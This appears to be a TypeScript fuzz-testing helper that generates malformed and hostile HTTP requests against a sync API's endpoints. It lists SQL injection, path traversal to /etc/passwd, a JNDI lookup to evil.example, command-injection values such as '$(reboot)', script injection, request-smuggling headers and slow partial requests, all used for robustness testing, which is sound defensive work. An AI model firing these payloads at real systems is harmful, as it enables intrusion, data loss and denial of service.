import type { SeededRandom } from "../support/seeded-random.ts";

/** Texts that mean something to some parser, shell, file system or database. */
export const NASTY_TEXTS: readonly string[] = [
  "",
  " ",
  "'",
  '"',
  "`",
  ";",
  "\\",
  "\0",
  "a\0b",
  "\u202e",
  "\ud800",
  "💥".repeat(20),
  "a".repeat(5_000),
  "'; DROP TABLE data; --",
  '"; DROP TABLE data; --',
  'x" TEXT, "y',
  "x) ; attach 'x' as y; --",
  "data",
  "DATA_SYNC",
  "metadata",
  "sqlite_master",
  "rowid",
  "id",
  "select",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "../../../etc/passwd",
  "..\\..\\windows",
  "%2e%2e%2f",
  "/etc/passwd",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "$(reboot)",
  "`reboot`",
  "| reboot",
  "<script>alert(1)</script>",
  "\r\nset-cookie: a=b",
  "%0d%0aset-cookie:%20a=b",
  "$where",
  "$ne",
  "system.users",
  "$._id",
  "$..*",
  "$[?(@.a==1)]",
  `$${"[0]".repeat(2_000)}`,
  `$${".a".repeat(2_000)}`,
  `$[?(${"(".repeat(500)}@.a${")".repeat(500)})]`,
  "$[?search(@.a, '(a+)+$')]",
  "-1",
  "9".repeat(400),
  "1e999",
  "NaN",
  "null",
  "true",
  "[]",
  "stream",
  "batch",
  "status",
  "CON",
  "a/b",
  ".",
  "..",
];

const PLACES: readonly string[] = [
  "/",
  "/assets/",
  "/docs/",
  "/api/entities/",
  "/api/snapshots/",
  "/api/snapshot/",
  "/api/entity/",
  "/api/oplogs/",
  "/api/logs/",
  "/api/consumers/",
  "/api/tokens/",
];

const CLIMBS: readonly string[] = [
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e/%2e%2e/etc/passwd",
  "..%252f..%252fetc%252fpasswd",
  "..%c0%af..%c0%afetc/passwd",
  "..\\..\\..\\etc\\passwd",
  "..%5c..%5cetc%5cpasswd",
  "/etc/passwd",
  "//etc/passwd",
  "%00/etc/passwd",
  "....//....//etc/passwd",
  "..;/..;/etc/passwd",
  "file:///etc/passwd",
  "./././package.json",
  "../config.toml",
  "../data/postgres/PG_VERSION",
];

/** A path that tries to leave the place that it begins in. */
export function traversalPath(random: SeededRandom): string {
  return random.pick(PLACES) + random.pick(CLIMBS) + random.pick(["", "?info", ".db", "%00.db", "/x"]);
}

const PATHS: readonly string[] = [
  ...PLACES,
  "/health",
  "/metrics",
  "/openapi.json",
  "/api/oplogs/batch",
  "/api/oplogs/stream",
  "/api/oplogs/status",
  "/api/oplogs?from=0&limit=10&entities=",
  "/api/follow?after=0&versions=",
  "/api/logs/x/entities/1/pages?after=",
  "/api/entities/users/query",
  "/api/entities/users/verify",
  "/api/entities/users/rejects?limit=",
  "/api/entities/users/copy",
];

/** A request of no kind in particular: any method, path, headers and body. */
export function anyRequest(random: SeededRandom): Parameters<typeof Object.assign>[0] & {
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string;
} {
  const text = encodeURIComponent(random.pick(NASTY_TEXTS).toWellFormed());
  const method = random.pick(["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE"]);
  const headers: Record<string, string> = random.pick<Record<string, string>>([
    {},
    { "content-type": "application/json" },
    { "content-type": "application/json; charset=utf-16" },
    { "content-type": "multipart/form-data; boundary=x" },
    { "content-type": "application/json", "content-encoding": "gzip" },
    { range: "bytes=0-0,5-6,99999999999999999999-", "if-range": "x" },
    { "last-event-id": "9007199254740993.x", "emcache-consumer": "a:b" },
    { authorization: `Bearer ${"a".repeat(9_000)}` },
    { cookie: "a=b; ".repeat(500), "x-forwarded-for": "1.1.1.1" },
    { traceparent: "00-zz-zz-zz", accept: "*/*;q=nan" },
  ]);
  const hasBody = !["GET", "HEAD", "OPTIONS", "TRACE"].includes(method);
  return { method, path: random.pick(PATHS) + text, headers, body: hasBody ? anyBody(random) : "" };
}

function anyBody(random: SeededRandom): string {
  const text = random.pick(NASTY_TEXTS);
  return random.pick([
    () => "",
    () => text,
    () => JSON.stringify(text),
    () => "[".repeat(50_000),
    () => '{"a":'.repeat(20_000),
    () => '{"__proto__":{"admin":true},"constructor":{"prototype":{}}}',
    () => JSON.stringify({ name: text, client: "main", source: text, shape: text }),
    () => `{"entities":[${JSON.stringify(text)}],"limit":1e400,"after":-1}`,
    () => JSON.stringify({ sql: text, params: [text], limit: 1 }),
    () => JSON.stringify({ name: text, scope: text, entities: [text], expires_at: text }),
  ])();
}

/** What no HTTP client would send. */
export function malformedBytes(random: SeededRandom): Buffer {
  const head = "GET /health HTTP/1.1\r\nhost: x\r\n";
  return Buffer.from(
    random.pick([
      () => "\r\n\r\n\r\n",
      () => "GET\r\n\r\n",
      () => "GET /health\r\n\r\n",
      () => "GET /health HTTP/9.9\r\n\r\n",
      () => "GET /he alth HTTP/1.1\r\n\r\n",
      () => `${head}content-length: -1\r\n\r\n`,
      () => `${head}content-length: 5\r\ncontent-length: 6\r\n\r\nhello`,
      () => `${head}transfer-encoding: chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n`,
      () => `POST /api/oplogs/batch HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n`,
      () => `POST /api/oplogs/batch HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n`,
      () => `${head}x: a\0b\r\n\r\n`,
      () => `${head}: empty\r\n\r\n`,
      () => `${head}x:${"y".repeat(100_000)}\r\n\r\n`,
      () => `${head}${"x: y\r\n".repeat(5_000)}\r\n`,
      () => `GET /${"a".repeat(100_000)} HTTP/1.1\r\n\r\n`,
      () => `${head}upgrade: h2c\r\nconnection: upgrade\r\n\r\n`,
      () => `CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example\r\n\r\n`,
      () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
      () => "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
      () => `${head}\r\nGET /health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`,
      () => String.fromCodePoint(...Array.from({ length: 200 }, () => random.integer(0, 255))) + "\r\n\r\n",
    ])(),
    "latin1",
  );
}

/** Bytes that begin a request and never end it. */
export function slowBytes(random: SeededRandom): string {
  return random.pick([
    "",
    "G",
    "GET /health HTTP/1.1\r\n",
    "GET /health HTTP/1.1\r\nhost: x\r\nx-slow: ",
    "POST /api/entities HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{",
    "POST /api/entities HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n5\r\n{",
  ]);
}
